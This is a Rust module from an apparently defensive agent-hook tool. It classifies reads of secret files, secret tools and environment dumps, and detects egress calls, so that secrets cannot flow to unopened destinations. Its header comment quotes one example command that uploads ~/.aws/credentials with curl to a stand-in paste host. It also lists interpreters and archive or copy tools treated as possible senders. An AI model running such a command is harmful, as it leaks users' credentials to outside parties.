//! Secrets and the calls that would send them off the machine (`spec/hooks.md` §16).
//!
//! Value provenance guards integrity: an argument copied from untrusted text may not drive a
//! sensitive call. It says nothing of secrecy: `curl -F f=@$HOME/.aws/credentials
//! https://paste.example` carries no token any read holds, so it is unsourced. This module
//! knows, from the policy's `[secrets]` table, which reads produce secret data (files and
//! globs, tools, environment dumps) and which calls send data off the machine (egress
//! commands and tools) and where to. [`crate::front::Front::check`] uses it for the flow rule
//! of §16.3: an egress call that reads a secret itself, or that runs in a session whose reads
//! descend from a secret, may send only to destinations the policy or the user opened.
//!
//! Shell analysis shares the lexer and path patterns of the protected-resources screen
//! (§13.3) and, as there, every doubt counts against the call: a program that cannot be
//! named may send, a word whose value is unknown may name a secret, an egress call whose
//! destination cannot be found sends to a destination nobody opened.

use super::protect::pattern::{
    candidate, glob, links_matched, literal_run, matches, overlaps, Candidate, Pat, Resolver,
};
use super::protect::shell::{lex, Token};
use crate::gate::extract::string_leaves;
use crate::gate::{principal_stem, Secrets};
use crate::lineage::secrecy::SecretSources;
use crate::record::Role;
use commands::UNKNOWN_CWD;
use hosts::{host_of, merge};
use serde_json::{Map, Value};
use std::path::{Path, PathBuf};

mod commands;
mod copies;
mod endorsed;
mod environment;
mod form;
mod forwarded;
mod hosts;
mod inline;
mod interpreters;
mod local;
mod moves;
mod projects;
mod rc;
mod remotes;
mod scripts;
mod searches;
mod servers;
mod stores;
mod uploads;
mod vars;
mod words;
pub(crate) use commands::chunks;
pub(crate) use scripts::{CodeFiles, CodeSeen, Reading, Script, MAX_CODE_TEXTS};

pub(crate) use commands::is_interpreter;

/// Interpreters whose inline code (`-c`, `-e`) can open any file and any connection: with a
/// secret path in their code they may send it.
const INTERPRETERS: &[&str] = &[
    "python",
    "python3",
    "python2",
    "node",
    "deno",
    "bun",
    "perl",
    "ruby",
    "php",
    "lua",
    "osascript",
    "pwsh",
    // Programs that run source files (spec/hooks.md §13.3, "Options").
    "go",
    "java",
    "tsx",
    "ts-node",
    "Rscript",
    "julia",
    "swift",
    "elixir",
    "groovy",
    "scala",
];

/// Programs that read directories recursively (archive, copy, search): a directory holding a
/// secret is read with it.
const TREE_READERS: &[&str] = &[
    "tar", "zip", "7z", "cp", "rsync", "scp", "grep", "egrep", "fgrep", "rg", "ag", "ack", "find",
];

/// Argument keys of file tools that name the file read (Read, Grep, MCP file servers).
const PATH_KEYS: &[&str] = &[
    "file_path",
    "path",
    "paths",
    "notebook_path",
    "filename",
    "file",
];

/// An egress call: how it sends and where to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Egress {
    /// The program or tool that sends (`curl`, `git push`, `WebFetch`).
    pub via: String,
    /// The destinations found (hosts, lower case; git remotes as named). Empty: unknown.
    pub destinations: Vec<String>,
}

/// The secrecy rule of one policy, for one home directory.
pub struct SecretRules {
    policy: Secrets,
    /// Each secret glob: as written, as a pattern, and its longest literal run (lower case),
    /// which a path must contain to match (a cheap test before the pattern's).
    secret: Vec<(String, Vec<Pat>, String)>,
    public: Vec<(Vec<Pat>, String)>,
    home: Option<PathBuf>,
}

/// What one shell command does, as far as secrets go.
#[derive(Default)]
struct Facts {
    /// Secret files or dumps it reads.
    secrets: Vec<String>,
    /// Egress programs it runs.
    egress: Vec<Egress>,
    /// It runs a program that cannot be named (which may send).
    unknown_program: bool,
    /// It sets a proxy or pins an address: its senders' destinations are unknown.
    rerouted: bool,
    /// The programs it runs, nested and handed code included, that are not known to keep data
    /// on the machine (`local::is_local`, `secrets.local_commands`), by basename.
    strangers: Vec<String>,
    /// Whether one of `secrets` is named concretely: a file by its path (no pattern, no part
    /// only known when it runs), a directory holding secrets, the environment, a path in code.
    named: bool,
    /// The first inline code whose reads are not known (`python3 -c`, `node -e`, awk's
    /// `ENVIRON`): its program, and how many strangers and egress programs were found before
    /// it ([`inline`], §16.2).
    inline: Option<(String, usize, usize)>,
    /// The values the command assigns its variables ([`vars::Assigned`], §16.2).
    vars: vars::Assigned,
    /// The code texts analysed so far ([`CodeSeen`]).
    code: CodeSeen,
    /// Whether code the user endorsed is read as such: for the decision on a call, not for
    /// whether its result is secret (§16.2, "Endorsed code").
    endorsing: bool,
    /// How many endorsed code texts enclose the one being analysed (§16.2, "Endorsed code"):
    /// while more than none, the files of code it runs wait in `deferred`.
    endorsed: usize,
    /// The files of code an endorsed text runs, each with its working directory and the
    /// program that runs it: analysed after the text, each as what it is.
    deferred: Vec<(scripts::Script, Option<PathBuf>, String)>,
}

impl SecretRules {
    /// The rules of `policy` with `home` as `~`.
    pub fn new(policy: &Secrets, home: Option<&Path>) -> Self {
        SecretRules {
            policy: policy.clone(),
            secret: policy
                .paths
                .iter()
                .map(|p| {
                    let g = glob(p, home);
                    let run = literal_run(&g);
                    (p.clone(), g, run)
                })
                .collect(),
            public: policy
                .public_paths
                .iter()
                .map(|p| {
                    let g = glob(p, home);
                    let run = literal_run(&g);
                    (g, run)
                })
                .collect(),
            home: home.map(Path::to_path_buf),
        }
    }

    /// The secret pattern `c` (a path, or a pattern over paths) may name, if any: a path
    /// matched by a secret glob and no public one, or a pattern that shares a path with a
    /// secret glob (a public glob does not excuse a pattern, which may name other files).
    fn secret_at(&self, c: &Candidate, r: &Resolver) -> Option<String> {
        match c {
            Candidate::Path(p) => {
                // As named and as the file system would open it (symbolic links resolved).
                let real = r.resolved(p);
                let both = [p.clone(), real];
                let distinct = if both[0] == both[1] { 1 } else { 2 };
                for q in &both[..distinct] {
                    let s = q.to_string_lossy();
                    let lower = s.to_lowercase();
                    let hit = |g: &[Pat], run: &str| lower.contains(run) && matches(g, &s);
                    if self.public.iter().any(|(g, run)| hit(g, run)) {
                        continue;
                    }
                    if self.secret.iter().any(|(_, g, run)| hit(g, run)) {
                        return Some(s.into_owned());
                    }
                }
                None
            }
            Candidate::Pattern(pat) => self
                .secret
                .iter()
                .find(|(_, g, _)| overlaps(g, pat))
                .map(|(name, _, _)| format!("a file matching {name}"))
                .or_else(|| {
                    // A link the pattern matches opens its target (`spec/hooks.md` §13.3).
                    let links = links_matched(pat);
                    links
                        .targets
                        .into_iter()
                        .find_map(|t| self.secret_at(&Candidate::Path(t), r))
                        .or_else(|| {
                            let d = links.partial?;
                            Some(format!("a link in {}, too large to list", d.display()))
                        })
                }),
        }
    }

    /// The secret a path string names (relative to `cwd`; `~/` is home).
    fn secret_str(&self, s: &str, cwd: Option<&Path>, r: &Resolver) -> Option<String> {
        if s.is_empty() || s.len() > 4096 || s.contains("://") {
            return None;
        }
        let lexed = lex(s);
        let Some(Token::Word(w)) = lexed.tokens.first() else {
            return None;
        };
        self.secret_at(&candidate(w, cwd, self.home.as_deref()), r)
    }

    /// The secret the call reads, if any (§16.1): a result of a secret tool, a file tool's
    /// path, or a shell command that reads a secret file or dumps the environment.
    pub fn read_by(
        &self,
        tool: &str,
        args: &Map<String, Value>,
        cwd: Option<&Path>,
    ) -> Option<String> {
        let facts = self.shell_call(tool, args, cwd, false);
        self.read_with(tool, args, cwd, facts.as_ref())
    }

    /// For an egress call (§16.2), where it sends and the secret it reads itself (§16.1):
    /// [`SecretRules::egress`] and [`SecretRules::read_by`] with its command analysed once.
    pub fn egress_reading(
        &self,
        tool: &str,
        args: &Map<String, Value>,
        cwd: Option<&Path>,
    ) -> Option<(Egress, Option<String>)> {
        let call = self.call_reading(tool, args, cwd);
        Some((call.egress?, call.reads))
    }

    /// [`SecretRules::read_by`] given the analysis of the call's command, if it has one.
    fn read_with(
        &self,
        tool: &str,
        args: &Map<String, Value>,
        cwd: Option<&Path>,
        facts: Option<&Facts>,
    ) -> Option<String> {
        let bare = principal_stem(tool);
        if self.policy.tools.contains(&bare) {
            return Some(format!("the result of {tool}"));
        }
        if let Some(f) = facts {
            return f.secrets.first().cloned();
        }
        for (k, v) in args {
            if !PATH_KEYS.contains(&k.as_str()) {
                continue;
            }
            let mut strings = Vec::new();
            string_leaves(v, &mut strings);
            let cwd = cwd.unwrap_or(Path::new(UNKNOWN_CWD));
            let r = Resolver::default();
            for s in strings {
                if let Some(found) = self.secret_str(s, Some(cwd), &r) {
                    return Some(found);
                }
                if let Some(found) = self.searched_secret(&bare, s, cwd) {
                    return Some(found);
                }
            }
        }
        None
    }

    /// Whether the call sends data off the machine, and where to (§16.2).
    pub fn egress(
        &self,
        tool: &str,
        args: &Map<String, Value>,
        cwd: Option<&Path>,
    ) -> Option<Egress> {
        let facts = self.shell_call(tool, args, cwd, false);
        self.egress_with(tool, args, facts)
    }

    /// [`SecretRules::egress`] given the analysis of the call's command, if it has one.
    fn egress_with(
        &self,
        tool: &str,
        args: &Map<String, Value>,
        facts: Option<Facts>,
    ) -> Option<Egress> {
        if let Some(mut f) = facts {
            if f.unknown_program {
                f.egress.push(Egress {
                    via: "a program that cannot be named".to_string(),
                    destinations: Vec::new(),
                });
            }
            if f.rerouted {
                for e in &mut f.egress {
                    e.destinations.clear();
                }
            }
            return merge(f.egress);
        }
        let names = self
            .policy
            .egress_tools
            .iter()
            .find(|(t, _)| **t == tool || principal_stem(t) == principal_stem(tool))?
            .1;
        // A call that names none of its tool's destination parameters sends to whoever
        // already receives it (an update of a scheduled payment's amount).
        if !names.is_empty() && !names.iter().any(|n| args.contains_key(n)) {
            return None;
        }
        let mut destinations = Vec::new();
        for n in names {
            let mut strings = Vec::new();
            if let Some(v) = args.get(n) {
                string_leaves(v, &mut strings);
            }
            destinations.extend(strings.into_iter().filter_map(host_of));
        }
        Some(Egress {
            via: tool.to_string(),
            destinations,
        })
    }

    /// Whether the policy names `tool` (a bare tool name) as a source of secrets.
    pub fn policy_tools_contain(&self, tool: &str) -> bool {
        self.policy.tools.contains(&principal_stem(tool))
    }

    /// Whether others than the user can write what the secret tool `tool` returns
    /// (`secrets.written_by_others`: an inbox, a channel), so that its results count as
    /// untrusted input for §16.6 although they are secret.
    pub fn written_by_others(&self, tool: &str) -> bool {
        self.policy
            .written_by_others
            .contains(&principal_stem(tool))
    }

    /// Whether secrets may go to `dest` by policy (§16.3): an open host or a subdomain of an
    /// open `.domain`, or an open git remote.
    pub fn is_open(&self, dest: &str) -> bool {
        let d = dest.to_lowercase();
        self.policy.open_git_remotes.iter().any(|r| *r == dest)
            || self
                .policy
                .open_destinations
                .iter()
                .any(|o| match o.strip_prefix('.') {
                    Some(domain) => d == domain || d.ends_with(&format!(".{domain}")),
                    None => d == *o,
                })
    }
}

/// A secret source (`spec/hooks.md` §16.1): what an entry is a source of.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SecretSource {
    /// What the secret is (a file, a tool's result).
    pub what: String,
    /// Only the user writes it (a secret file; a secret tool not in `written_by_others`).
    pub private: bool,
}

impl SecretRules {
    /// What secret the verified entry written by principal `name` of role `role` with content
    /// `text` is a source of (§16.1), with `cwd` the working directory relative paths are
    /// taken from: a result of a tool the policy lists in `secrets.tools`, or a tool-call
    /// entry of the agent whose signed content `{"tool", "args"}` reads a secret
    /// ([`SecretRules::read_by`]), or a session's unseen-history entry (§3.1). The one
    /// classification the fronts' decisions (`Front::check`) and `memlineage verify --policy`
    /// share.
    pub fn source_of(
        &self,
        role: Role,
        name: &str,
        text: &str,
        cwd: Option<&Path>,
    ) -> Option<SecretSource> {
        match role {
            Role::Tool => {
                let tool = name.strip_prefix("tool:").unwrap_or(name);
                self.policy_tools_contain(tool).then(|| SecretSource {
                    what: format!("the result of {tool}"),
                    private: !self.written_by_others(tool),
                })
            }
            Role::Agent => match serde_json::from_str::<Value>(text) {
                Ok(Value::Object(call)) => match (call.get("tool"), call.get("args")) {
                    (Some(Value::String(t)), Some(Value::Object(a))) => {
                        self.read_by(t, a, cwd).map(|what| SecretSource {
                            private: !self.policy_tools_contain(t) || !self.written_by_others(t),
                            what,
                        })
                    }
                    _ => None,
                },
                _ => None,
            },
            // What a session read before the hooks saw it may have been a secret (§3.1).
            Role::External if name == super::session::UNSEEN_HISTORY => Some(SecretSource {
                what: "the history of this session that memlineage's hooks did not see".to_string(),
                private: false,
            }),
            _ => None,
        }
    }
}

/// The policy's secret sources for a working directory, as [`SecretSources`] for the audit
/// (`memlineage verify --policy`, `spec/lineage.md` §8).
pub struct PolicySources<'a> {
    /// The policy's rules.
    pub rules: &'a SecretRules,
    /// The working directory relative paths are taken from (`None`: unknown, §16.2).
    pub cwd: Option<&'a Path>,
}

impl SecretSources for PolicySources<'_> {
    fn source(&self, role: Role, name: &str, text: &str) -> Option<String> {
        self.rules
            .source_of(role, name, text, self.cwd)
            .map(|s| s.what)
    }
}

#[cfg(test)]
mod tests;
